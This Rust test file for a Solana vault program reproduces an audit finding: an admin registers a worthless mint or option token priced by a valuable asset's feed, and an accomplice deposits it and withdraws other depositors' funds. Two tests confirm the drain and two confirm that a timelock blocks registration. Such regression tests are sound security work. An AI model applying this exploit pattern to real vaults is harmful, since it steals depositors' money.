//! The registry attack (issue 14, High): the admin registers a worthless mint priced by a
//! valuable asset's feed, lets the budget repair apply, refreshes, deposits the worthless token
//! in kind at the feed's price and withdraws the depositors' base.

use rpv_sdk::TOKEN_PROGRAM_ID;
use rpv_tests::*;
use solana_signer::Signer;

/// `budgets` rescaled to sum 10^9 (each within one ppb of `b · 10^9 / Σb`): the repair
/// `set_risk_budgets` applies at once after a registration.
fn rescaled(budgets: &[u64]) -> Vec<u64> {
    let sum: u128 = budgets.iter().map(|b| u128::from(*b)).sum();
    let mut out: Vec<u64> = budgets.iter().map(|b| (u128::from(*b) * 1_000_000_000 / sum) as u64).collect();
    let rem = 1_000_000_000 - out.iter().sum::<u64>();
    for o in out.iter_mut().take(rem as usize) {
        *o += 1;
    }
    out
}

/// A one-day-timelock vault with two assets and an outside depositor of 100,000 USDC.
async fn victim_vault() -> Fixture {
    let mut f = Fixture::with_timelock(2).await;
    let victim = f.user(100_000 * USDC).await;
    f.deposit(&victim, 100_000 * USDC, 0).await.ok();
    f
}

/// The rest of the exploit once the worthless slot is registered at `index`: budgets repaired,
/// refreshed, `amount` worthless units deposited in kind by an accomplice, who withdraws all
/// its shares. Returns the base the accomplice walked away with.
async fn drain(f: &mut Fixture, index: u8, amount: u64) -> u64 {
    let b = rescaled(&risk_budgets(&f.state().await));
    f.set_budgets(b).await.ok();
    f.step(60).await.ok();
    let accomplice = f.user(0).await;
    let src = f.asset_account(usize::from(index), &accomplice.kp.pubkey(), amount).await;
    f.deposit_asset(&accomplice, index, &src, amount, 0).await.ok();
    let shares = f.env.token_amount(&accomplice.share_token).await;
    f.withdraw(&accomplice, shares, 0).await.ok();
    f.env.token_amount(&accomplice.base_token).await
}

#[tokio::test]
async fn attack_worthless_mint_with_a_valuable_feed_drains_the_vault() {
    let mut f = victim_vault().await;
    // a mint the admin controls, registered with asset 1's oracle and feed ($20.50)
    let worthless = f.env.create_mint(&TOKEN_PROGRAM_ID, f.assets[1].decimals).await;
    let fake = TestAsset { mint: worthless, ..f.assets[1].clone() };
    f.add_asset(&fake, Fixture::asset_args(&fake)).await.ok();
    f.assets.push(fake);
    // 2,500 worthless tokens at $20.50
    let gained = drain(&mut f, 2, 2_500 * 100_000_000).await;
    println!("accomplice withdrew {gained} base units for worthless tokens");
    assert!(gained > 50_000 * USDC, "the drain took {gained}");
}

#[tokio::test]
async fn attack_worthless_option_token_drains_the_vault() {
    let mut f = victim_vault().await;
    // a "call" on asset 1 struck at one cent: valued at about the spot price per token
    let series = Series::call(1, 0.01, 30 * DAY, 0.5);
    let (fake, add) = f.option_ix(&series, 62_500_000).await;
    f.send_as_admin(add).await.ok();
    f.assets.push(fake);
    let gained = drain(&mut f, 2, 2_500 * 1_000_000).await;
    println!("accomplice withdrew {gained} base units for worthless option tokens");
    assert!(gained > 50_000 * USDC, "the drain took {gained}");
}

#[tokio::test]
async fn attack_worthless_mint_registration_waits_for_the_timelock() {
    let mut f = victim_vault().await;
    let worthless = f.env.create_mint(&TOKEN_PROGRAM_ID, f.assets[1].decimals).await;
    let fake = TestAsset { mint: worthless, ..f.assets[1].clone() };
    let before = f.vault_and_risk_bytes().await;
    f.add_asset(&fake, Fixture::asset_args(&fake)).await.assert_error("TimelockRequired");
    assert_eq!(f.vault_and_risk_bytes().await, before);
}

#[tokio::test]
async fn attack_worthless_option_registration_waits_for_the_timelock() {
    let mut f = victim_vault().await;
    let (_, add) = f.option_ix(&Series::call(1, 0.01, 30 * DAY, 0.5), 62_500_000).await;
    let before = f.vault_and_risk_bytes().await;
    f.send_as_admin(add).await.assert_error("TimelockRequired");
    assert_eq!(f.vault_and_risk_bytes().await, before);
}
